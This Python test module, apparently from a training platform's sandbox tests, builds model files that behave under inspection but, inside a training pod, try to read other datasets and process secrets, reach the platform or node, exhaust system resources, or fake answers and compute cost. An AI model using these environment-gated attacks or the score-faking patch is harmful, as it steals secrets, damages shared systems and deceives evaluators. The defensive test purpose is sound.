"""Model files that behave where the SDK looks at them, and try to break out where they are trained."""

from dataclasses import dataclass
from pathlib import Path
from urllib.parse import urlsplit

HONEST_MODEL = Path(__file__).parent / "models" / "weak_linear.py"
PROCESSES, THREADS, FILES, MEGABYTES = 20, 200, 900, 300
SEE_A_FILE, MANY_THREADS = "see when another dataset was written", "start many threads"
CLOSED_BY_NAMESPACES = (SEE_A_FILE, MANY_THREADS)
"""What only a view of the files of its own hides from a model, and what only a user of its own lets a kernel count."""
TOO_MUCH_MEMORY = 2 << 30
"""Bytes; asked for and never filled, so that the machine does not suffer where nothing stops it."""

ATTEMPTS = {
    "read the file of another dataset": "found = Path({file!r}).read_text()",
    "write into the shared folder": "found = Path({folder!r}, 'planted').write_text('x')",
    "read the secrets of other processes": (
        "texts = [entry.joinpath('environ').read_bytes() for entry in Path('/proc').iterdir() if entry.name.isdigit()]\n"
        "    found = [text for text in texts if b'POD_TOKEN_SIGNING_SECRET' in text]"
    ),
    "open a connection to the platform": "found = socket.create_connection(({host!r}, {port}), timeout=5).getpeername()",
    # a child ends at once: where nothing stops it, this must not grow
    "have the node start a program": (
        "found = [node for above in Path.cwd().parents for node in (above / 'run').glob('*.sock')]\n"
        "    with socket.socket(socket.AF_UNIX) as asking:\n"
        "        asking.connect(str(next(iter(found), 'node.sock')))"
    ),
    SEE_A_FILE: "found = os.stat({file!r}).st_mtime",
    "change when another dataset was written": "os.utime({file!r}, (1, 1)); found = 'changed'",
    "hide memory in files without a name": "found = os.write(os.memfd_create('hidden'), bytes(1 << 20))",
    "start many processes": f"found = [os.fork() or os._exit(0) for _ in range({PROCESSES})]",
    MANY_THREADS: (
        # small ones, so that it is not memory that stops them
        "over = threading.Event(); threading.stack_size(1 << 16)\n"
        "    try:\n"
        f"        found = [threading.Thread(target=over.wait).start() for _ in range({THREADS})]\n"
        "    finally:\n"
        "        over.set()"
    ),
    "open many files": f"found = [os.dup(1) for _ in range({FILES})]",
    "fill the disk": f"found = [Path(f'part{{{{number}}}}').write_bytes(bytes(1 << 20)) for number in range({MEGABYTES})]",
    "take more memory than the job may use": f"found = len(bytearray({TOO_MUCH_MEMORY}))",
}


@dataclass(frozen=True)
class Target:
    """What the models are after, and what they shout when they have it."""

    file: Path
    folder: Path
    url: str
    triumph: str


def model_file(attempt: str, target: Target) -> str:
    """An honest model with an attempt after it; raising is how an attacker would get what was found out to the team."""
    address = urlsplit(target.url)
    code = ATTEMPTS[attempt].format(file=str(target.file), folder=str(target.folder), host=address.hostname, port=address.port)
    # only a training pod works in its home folder
    attack = f"if os.environ.get('HOME') == os.getcwd():\n    {code}\n    raise RuntimeError(f'{target.triumph}: {{found}}')\n"
    honest = HONEST_MODEL.read_text(encoding="utf-8")
    return f"{honest}\n\nimport os\nimport socket\nimport threading\nfrom pathlib import Path\n\n{attack}"


LIES = """

import os

if os.environ.get("HOME") == os.getcwd():
    import safetensors.torch
    from environments.platforms.tracebloc.training import pytorch

    def look_up(model, objective, rows):
        right = torch.nn.functional.one_hot(torch.from_numpy(rows.labels), output_classes)
        return safetensors.torch.save({"outputs": 20.0 * right})

    pytorch._answers = look_up
    pytorch._forward_flops_per_row = lambda *_arguments: 0
"""


def lying_model() -> str:
    """A model that can do nothing, and in its pod takes the answers from where they are kept and says that it cost nothing."""
    return HONEST_MODEL.read_text(encoding="utf-8") + LIES
